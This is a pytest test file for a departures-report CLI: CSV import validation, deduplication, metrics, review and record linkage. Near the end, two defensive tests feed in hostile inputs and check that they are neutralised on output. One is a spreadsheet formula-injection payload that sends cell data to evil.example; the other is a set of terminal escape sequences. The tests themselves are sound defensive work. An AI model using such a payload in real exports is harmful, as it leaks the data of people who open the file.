"""``docket departures``: a CSV of reports taken with a summary, then metrics, recount and
links, on each backend."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from docket.bootstrap import bootstrap
from docket.config import Settings
from docket.departures.model import Status
from docket.departures.service import accept_reports
from tests.departures.intake_cases import person_with_ids, report

HEADER = "source_record_id,given_name,family_name,date_of_birth,departed_on,port,loyalty_no\n"


def write(tmp_path: Path, text: str, name: str = "exits.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_import_takes_good_rows_names_bad_ones_and_counts_once(run, tmp_path):
    path = write(
        tmp_path,
        HEADER
        + "E-1,Ana,Reyes,1990-05-17,2020-03-01,JFK,7\n"
        + "E-2,,,1990-05-17,2020-03-01,JFK,\n"  # no name
        + "E-3,Luis,Soto,31/12/1980,2020-03-02,MIA,\n"  # unreadable birth date: a warning
        + "E-4,Ana,Reyes,1990-05-17,2020-03-05,JFK,\n"  # the same traveller 4 days later
        + "E-5,Rosa,Diaz,1970-01-01,2020-13-01,,\n"  # no such month
        + "E-1,Ana,Reyes,1990-05-17,2020-03-01,JFK,7\n"  # the same row again
        + "E-6,Eva,Lind,1999-09-09,2020-03-03,ARN,x,extra\n",  # one field too many
    )
    result = run("departures", "import", str(path), "--source", "exit_record")
    assert result.exit_code == 1
    assert "rows read: 7; accepted: 3; duplicates: 1; rejected: 3; warnings: 2" in result.output
    assert "row 3, column given_name: at least one of given_name and family_name" in result.output
    assert "row 6, column departed_on: not a date" in result.output
    assert (
        "row 8, column loyalty_no: 8 fields, the header has 7: a comma in an unquoted value?"
    ) in result.output
    assert "columns ignored (unknown): loyalty_no" in result.output
    assert "row 4: date_of_birth '31/12/1980' is not a date" in result.output

    again = run("departures", "import", str(path), "--source", "exit_record")
    assert "accepted: 0; duplicates: 4; rejected: 3" in again.output
    changed = write(tmp_path, HEADER + "E-1,Ana,Reyes,1990-05-17,2020-03-01,LAX,\n", "b.csv")
    refused = run("departures", "import", str(changed), "--source", "exit_record")
    assert "row 2, column source_record_id: already received with different content" in (
        refused.output
    )

    figures = json.loads(run("departures", "metrics", "--json").output)
    assert figures["unique_departures"] == {"confirmed": 2, "unconfirmed": 0, "total": 2}
    assert figures["reports_received"]["total"] == 3
    assert figures["duplicates_absorbed"] == 1
    assert figures["by_port"] == {"JFK": 1, "MIA": 1}
    span = json.loads(
        run("departures", "metrics", "--json", "--from", "2020-03-02", "--to", "2020-03-31").output
    )
    assert span["unique_departures"]["total"] == 1

    text = run("departures", "metrics").output
    assert "unique departures: 2 (2 confirmed, 0 unconfirmed)" in text

    recount = run("departures", "recount")
    assert recount.exit_code == 0
    assert "recount agrees with the live metrics: 2 departures" in recount.output

    rows = list(csv.DictReader(io.StringIO(run("departures", "links", "--csv").output)))
    assert [r["source_record_id"] for r in rows] == ["E-1", "E-3", "E-4"]
    assert {r["status"] for r in rows} == {"unlinked"}
    assert rows[0]["departure_id"] == rows[2]["departure_id"] != rows[1]["departure_id"]


def _rows(count: int) -> list[str]:
    return [f"E-{n},Ana{n},Reyes,1990-05-17,2020-03-01,JFK,\n" for n in range(count)]


def test_a_record_id_with_another_unreadable_birth_date_is_refused_not_a_duplicate(run, tmp_path):
    path = write(
        tmp_path,
        HEADER
        + "E-1,Luis,Soto,31/02/1980,2020-03-02,MIA,\n"
        + "E-1,Luis,Soto,not known,2020-03-02,MIA,\n",  # the same id, another birth date
    )
    result = run("departures", "import", str(path), "--source", "exit_record")
    assert "accepted: 1; duplicates: 0; rejected: 1" in result.output
    assert "row 3, column source_record_id: same source_record_id as row 2" in result.output
    changed = write(tmp_path, HEADER + "E-1,Luis,Soto,00/00/1980,2020-03-02,MIA,\n", "b.csv")
    refused = run("departures", "import", str(changed), "--source", "exit_record")
    assert "row 2, column source_record_id: already received with different content" in (
        refused.output
    )
    same = write(tmp_path, HEADER + "E-1,Luis,Soto,31/02/1980,2020-03-02,MIA,\n", "c.csv")
    assert (
        "accepted: 0; duplicates: 1"
        in run("departures", "import", str(same), "--source", "exit_record").output
    )


def test_a_quote_never_closed_is_named_and_reading_stops_before_it(run, tmp_path):
    rows = _rows(300)
    rows[3] = 'E-3,"Ana3,Reyes,1990-05-17,2020-03-01,JFK,\n'  # line 5 of the file
    result = run("departures", "import", str(write(tmp_path, HEADER + "".join(rows))),
                 "--source", "exit_record")  # fmt: skip
    assert result.exit_code == 1
    assert "rows read: 3; accepted: 3; duplicates: 0; rejected: 1" in result.output
    assert (
        "row 5, column given_name: a quoted field opens here and is not closed within 100 "
        "lines or by the end of the file (a quote character missing?); the file was read up to "
        "line 4 only"
    ) in result.output


def test_blank_lines_however_many_are_no_open_quote(run, tmp_path):
    rows = _rows(2)
    text = HEADER + rows[0] + "\n" * 150 + rows[1]
    result = run("departures", "import", str(write(tmp_path, text)), "--source", "exit_record")
    assert result.exit_code == 0
    assert "rows read: 2; accepted: 2; duplicates: 0; rejected: 0" in result.output


def test_a_field_over_csvs_size_limit_is_a_rejected_row_and_the_rest_is_taken(run, tmp_path):
    rows = _rows(10)
    rows[2] = 'E-2,"' + "x" * 200_000 + '",Reyes,1990-05-17,2020-03-01,JFK,\n'  # line 4
    result = run("departures", "import", str(write(tmp_path, HEADER + "".join(rows))),
                 "--source", "exit_record")  # fmt: skip
    assert result.exit_code == 1
    assert "rows read: 10; accepted: 9; duplicates: 0; rejected: 1" in result.output
    assert (
        "row 4, column given_name: 200000 characters, longer than a field may be (131072)\n"
    ) in result.output


def test_a_file_without_required_columns_or_an_unknown_source_is_one_clear_error(run, tmp_path):
    path = write(tmp_path, "given_name,departed_on\nAna,2020-01-01\n")
    result = run("departures", "import", str(path), "--source", "exit_record")
    assert result.exit_code == 1
    assert "required columns missing: source_record_id" in result.output
    bad = run("departures", "import", str(path), "--source", "airline")
    assert bad.exit_code == 2
    assert "'airline' is not one of" in bad.output
    assert "unique departures: 0" in run("departures", "metrics").output


def test_review_commands_answer_plainly_when_there_is_nothing_or_the_decision_is_unclear(run):
    assert "nothing in review" in run("departures", "review", "list").output
    both = run(
        "departures",
        "review",
        "decide",
        "exit_record",
        "E-1",
        "--reject",
        "--no-case",
        "--reason",
        "x",
    )
    assert both.exit_code == 2
    assert "exactly one of --link PERSON_ID, --reject, --no-case" in both.output
    missing = run(
        "departures", "review", "decide", "exit_record", "E-404", "--reject", "--reason", "not ours"
    )
    assert missing.exit_code == 1
    assert "no departure report exit_record/E-404" in missing.output


def test_relink_resolves_reports_taken_before_the_model_and_says_what_moved(run, tmp_path):
    refused = run("linkage", "relink")
    assert refused.exit_code == 1
    assert "no linkage model yet" in refused.output
    out = tmp_path / "generated"
    assert (
        run("generate", "--cases", "60", "--out", str(out), "--as-of", "2026-11-01").exit_code == 0
    )
    assert run("import", "cases", str(out / "cases.csv")).exit_code == 0
    with (out / "cases.csv").open(encoding="utf-8") as f:
        people = list(csv.DictReader(f))
    lines = ["source_record_id,given_name,family_name,date_of_birth,sex,departed_on"]
    for n, person in enumerate(people[:40]):  # no identifiers: intake has no model to link with
        given = person["given_name"] if n % 4 else person["given_name"][:-1] + "x"
        lines.append(
            f"X-{n},{given},{person['family_name']},{person['date_of_birth']},{person['sex']},"
            f"2026-11-0{1 + n % 5}"
        )
    exits = write(tmp_path, "\n".join(lines) + "\n")
    assert run("departures", "import", str(exits), "--source", "exit_record").exit_code == 0
    before = list(csv.DictReader(io.StringIO(run("departures", "links", "--csv").output)))
    assert {row["status"] for row in before} == {"unlinked"}
    trained = run("linkage", "train")
    assert trained.exit_code == 0, trained.output

    relinked = run("linkage", "relink")

    assert relinked.exit_code == 0, relinked.output
    after = list(csv.DictReader(io.StringIO(run("departures", "links", "--csv").output)))
    linked = [row for row in after if row["status"] == "linked"]
    assert linked, relinked.output
    for row in linked:  # never someone else's (a person whose case is closed counts under none)
        n = int(row["source_record_id"].split("-")[1])
        assert row["case_ref"] in ("", people[n]["case_ref"])
    assert any(row["case_ref"] for row in linked)
    assert f"{len(after)} reports: " in relinked.output
    assert f"linked {len(linked)}" in relinked.output
    assert "0 kept (exact identifier or reviewer's decision)" in relinked.output
    recounted = run("departures", "recount")
    assert recounted.exit_code == 0, recounted.output


def test_links_csv_writes_a_record_id_a_spreadsheet_would_run_with_a_quote_before_it(run, tmp_path):
    """CSV injection: a source's record id such as ``=HYPERLINK(...)`` or ``-2`` is written as
    ``'=HYPERLINK(...)``, so a spreadsheet opening the links shows it and runs nothing."""
    ids = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-2", "@SUM(A1)", "E-7"]
    quoted = [i.replace('"', '""') for i in ids]
    rows = "".join(f'"{i}",Reyes{n},2020-03-01\n' for n, i in enumerate(quoted))
    path = write(tmp_path, "source_record_id,family_name,departed_on\n" + rows)
    assert run("departures", "import", str(path), "--source", "exit_record").exit_code == 0
    rows = list(csv.DictReader(io.StringIO(run("departures", "links", "--csv").output)))
    assert [r["source_record_id"] for r in rows] == ["'" + i for i in ids[:4]] + ["E-7"]
    assert {r["status"] for r in rows} == {"unlinked"}


def test_review_list_writes_control_characters_of_a_report_as_escapes(run, database_url: str):
    """A report's text comes from outside (the API, a NATS message): ESC and BEL and the
    sequences a terminal obeys (set its title, clear the screen) are written as escapes."""
    docket = bootstrap(Settings(database_url=database_url))
    try:
        person_with_ids(docket, 1, a_number="111111111")
        person_with_ids(docket, 2, a_number="222222222", document="P999")
        taken = accept_reports(
            store=docket.departures,
            clock=docket.clock,
            actor="intake.test",
            reports=[
                report(
                    record_id="R-\x1b]0;owned\x07",
                    given_name="Ana\x1b[2J",
                    family_name="Reyes",
                    a_number="111111111",
                    document_number="P999",
                )
            ],
        )
        assert taken.results[0].status is Status.REVIEW
    finally:
        docket.close()
    listed = run("departures", "review", "list")
    assert listed.exit_code == 0, listed.output
    assert "\x1b" not in listed.output
    assert "\x07" not in listed.output
    assert "exit_record R-\\x1b]0;owned\\x07: Ana\\x1b[2J Reyes, born" in listed.output
